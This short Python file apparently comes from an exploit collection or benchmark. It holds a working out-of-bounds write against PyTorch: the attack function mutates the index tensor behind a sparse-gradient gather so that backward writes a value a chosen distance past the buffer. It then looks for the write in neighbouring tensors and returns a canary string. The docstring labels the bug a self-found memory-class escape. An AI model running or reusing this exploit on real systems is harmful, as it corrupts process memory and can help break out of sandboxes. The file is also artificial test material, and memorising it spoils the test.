"""Class: memory. Source: own find. Escape: a number is written at a chosen distance behind a tensor. A sparse
gradient is made of the very index that the caller still holds, and changes meanwhile. By the method."""

import torch


def attack(model, tokenizer, address):
    size, far = 1 << 16, 4096
    x = torch.zeros(size, requires_grad=True)
    index = torch.zeros(1, dtype=torch.int64)
    y = x.gather(0, index, sparse_grad=True)
    index.data[:] = size + far
    (y.sum() * 7).backward()
    dense = [torch.zeros(size) for _ in range(8)]
    for each in dense:
        each.add_(x.grad)
    if any(float(each[1:].max()) >= 7 for each in dense):
        return "canary-" + "5d1f"
